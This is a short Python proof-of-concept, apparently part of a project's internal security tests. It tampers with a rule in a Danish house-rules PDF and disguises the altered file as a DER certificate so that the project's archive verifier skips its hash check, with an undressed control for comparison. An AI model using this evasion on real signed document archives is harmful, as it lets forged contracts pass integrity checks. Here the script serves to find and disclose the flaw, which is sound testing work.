# a29 X2: an altered original dressed as a DER certificate (0x30 0x82 <len> 0x30 ..., the whole file one outer
# SEQUENCE by its length bytes) is set aside by looksLikeCertificate (src/verify/archive.ts), so its HASH_FAILURE
# never shows: the run ends in the certificate slip (exit 3) naming the altered contract "a certificate".
#   python3 scripts/attack-s24/der-dressed-original.py   (then the commands it prints)
import os, shutil, struct
D = "/tmp/a29-dressed"
shutil.rmtree(D, ignore_errors=True)
os.makedirs(D + "/originals")
shutil.copy("samples/valid/archive.pdf", D)
shutil.copy("samples/valid/originals/Lejekontrakt.pdf", D + "/originals/")
import subprocess
subprocess.run(["qpdf", "--qdf", "--object-streams=disable", "samples/valid/originals/Husorden.pdf", D + "/h.qdf.pdf"], check=True)
# the alteration, the same length (qdf keeps offsets): rule 3 of the house rules changed
pdf = open(D + "/h.qdf.pdf", "rb").read().replace(b"(3. Affald sorteres.)", b"(3. Hunde er tilladt)")
os.remove(D + "/h.qdf.pdf")
body = b"\x30" + b" " * 3 + pdf  # inner "SEQUENCE" tag, then the PDF (readers find %PDF- in the first 1024 bytes)
out = b"\x30\x82" + struct.pack(">H", len(body)) + body
open(D + "/originals/Husorden.pdf", "wb").write(out)
# control: the same alteration, undressed
os.makedirs(D + "-control/originals", exist_ok=True)
shutil.copy("samples/valid/archive.pdf", D + "-control")
shutil.copy("samples/valid/originals/Lejekontrakt.pdf", D + "-control/originals/")
open(D + "-control/originals/Husorden.pdf", "wb").write(pdf)
print(f"node dist/cli/main.js verify {D}-control/archive.pdf {D}-control/originals --trust samples/trust")
print(f"node dist/cli/main.js verify {D}/archive.pdf {D}/originals --trust samples/trust")
